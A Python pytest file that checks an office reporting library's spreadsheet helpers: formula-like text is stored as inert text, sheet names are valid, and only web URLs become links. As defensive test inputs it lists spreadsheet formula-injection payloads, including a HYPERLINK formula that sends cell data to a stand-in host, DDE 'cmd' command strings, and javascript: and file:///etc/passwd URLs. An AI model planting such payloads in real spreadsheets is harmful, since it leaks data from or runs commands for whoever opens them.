"""No cell of a workbook is a formula, and no sheet has a name that Excel refuses."""

import re

import openpyxl
import pytest
from openpyxl import Workbook

from office.reports.cells import (
    cell_text,
    is_web_url,
    link_to_web,
    sheet_name,
    write_text,
    write_value,
)

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1＋1",
    "＋1",
    "=",
    "_x003D_1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_stored_as_guarded_text(text, tmp_path):
    book = Workbook()
    write_text(book.active["A1"], text)
    assert book.active["A1"].data_type == "s"
    book.save(tmp_path / "a.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "a.xlsx").active["A1"]
    assert cell.data_type == "s"
    assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "_x003D_"))


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "TRUE", "1e5", "2031-04-01"])
def test_text_that_looks_like_a_value_stays_text(text):
    cell = Workbook().active["A1"]
    write_text(cell, text)
    assert (cell.value, cell.data_type) == (text, "s")


def test_ordinary_text_stays_as_it_is():
    text = "食品包装の酸素バリア性 (O₂ < 0.1) — a=b, 𠮷野家"
    assert cell_text(text) == text


def test_characters_that_a_workbook_cannot_hold_are_removed(tmp_path):
    book = Workbook()
    write_text(book.active["A1"], "a\x00b\x0bc\x1fd\ud800e\uffff\u202ef")
    book.save(tmp_path / "a.xlsx")
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").active["A1"].value == "abcd〓ef"


def test_long_text_is_cut_to_the_units_that_excel_counts():
    assert len(cell_text("𠮷" * 40_000).encode("utf-16-le")) // 2 == 32_766
    assert len(cell_text("=" + "a" * 40_000)) == 32_767


def test_numbers_stay_numbers_and_nothing_stays_empty():
    sheet = Workbook().active
    for column, value in enumerate([3, 0.5, None, ""], start=1):
        write_value(sheet.cell(1, column), value)
    assert [cell.value for cell in sheet[1]] == [3, 0.5, None, None]


@pytest.mark.parametrize(
    "title",
    [
        "a" * 100,
        "𠮷" * 40,
        "[x]:*?/\\",
        "'quoted'",
        "History",
        "",
        "\x00\x1f",
        "=1+1",
        "食品包装の酸素バリア性を高めるコーティング材料を共同で開発したい",
        "a\nb\tc",
        "\ufffe\ud800",
    ],
)
def test_sheet_names_of_hostile_titles_are_names_that_excel_takes(title):
    name = sheet_name(12, title)
    assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
    assert not re.search(r"[\[\]:*?/\\\x00-\x1f]", name)
    assert name == name.strip(" '")
    assert name.startswith("12")


def test_needs_of_one_title_get_different_sheets_whatever_the_case():
    titles = ["Same title", "same TITLE", "Same title" * 9, "Same title" * 9, "", ""]
    names = [sheet_name(number, title).casefold() for number, title in enumerate(titles, start=1)]
    assert len(set(names)) == len(titles)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
        "//x",
        "http://a b",
        'http://a"b',
        "https://例え.jp",
        "",
    ],
)
def test_only_web_addresses_become_links(url):
    cell = Workbook().active["A1"]
    link_to_web(cell, url)
    assert not is_web_url(url)
    assert cell.hyperlink is None


def test_a_web_address_becomes_a_link():
    cell = Workbook().active["A1"]
    link_to_web(cell, "https://doi.org/10.1/x(y)")
    assert cell.hyperlink.target == "https://doi.org/10.1/x(y)"
    assert cell.value == "https://doi.org/10.1/x(y)"
